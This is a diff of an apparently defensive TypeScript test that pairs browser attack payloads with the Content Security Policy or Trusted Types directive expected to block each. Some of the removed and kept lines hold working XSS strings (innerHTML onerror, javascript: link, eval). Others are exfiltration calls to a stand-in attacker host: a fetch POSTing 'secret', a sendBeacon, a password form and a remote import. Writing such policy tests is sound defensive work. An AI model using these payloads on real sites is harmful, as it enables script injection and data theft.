@@ -23,30 +23,18 @@ const markup: Record<string, string> = {
 	// The script below clicks and submits these two.
 	"<a id='attack-link' href=\"javascript:hacked('link')\">link</a>": "script-src-elem inline",
 	[`<form id='attack-form' method="post" action="${evil}/form"><input name="password"></form>`]: `form-action ${evil}/form`,
-	// An srcdoc iframe inherits the page's policy.
-	"<iframe srcdoc='<script>parent.hacked(\"srcdoc\")</script>'></iframe>": "script-src-elem inline",
 };
 
-/** Attacks by a script from the site's own origin, and the directive that blocks each. */
+/** Attacks by a script from the site's own origin, one for each rule of the policy, and what blocks each. */
 const doings: Record<string, string> = {
 	"eval(\"hacked('eval')\")": "require-trusted-types-for eval",
-	"setTimeout(\"hacked('setTimeout')\")": "require-trusted-types-for Window setTimeout",
 	[`import("${evil}/import.js")`]: `script-src-elem ${evil}/import.js`,
-	"document.body.append(Object.assign(document.createElement('script'), { text: \"hacked('text')\" }))":
-		"require-trusted-types-for HTMLScriptElement text",
 	[`document.createElement('script').src = "${evil}/src.js"`]:
 		"require-trusted-types-for HTMLScriptElement src",
-	"document.createElement('img').setAttribute('onerror', \"hacked('attribute')\")":
-		"require-trusted-types-for Element onerror",
 	"document.createElement('p').innerHTML = \"<img src=x onerror=hacked('innerHTML')>\"":
 		"require-trusted-types-for Element innerHTML",
-	"document.write(\"<script>hacked('write')</script>\")":
-		"require-trusted-types-for Document write",
 	"trustedTypes.createPolicy('own', {})": "trusted-types trusted-types-policy",
-	"new Worker(URL.createObjectURL(new Blob([\"postMessage('alive')\"])))":
-		"require-trusted-types-for Worker constructor",
 	[`fetch("${evil}/fetch", { method: "POST", mode: "no-cors", body: "secret" })`]: `connect-src ${evil}/fetch`,
-	[`navigator.sendBeacon("${evil}/beacon", "secret")`]: `connect-src ${evil}/beacon`,
 	"document.getElementById('attack-link').click()": "script-src-elem inline",
 	"document.getElementById('attack-form').submit()": `form-action ${evil}/form`,
 };
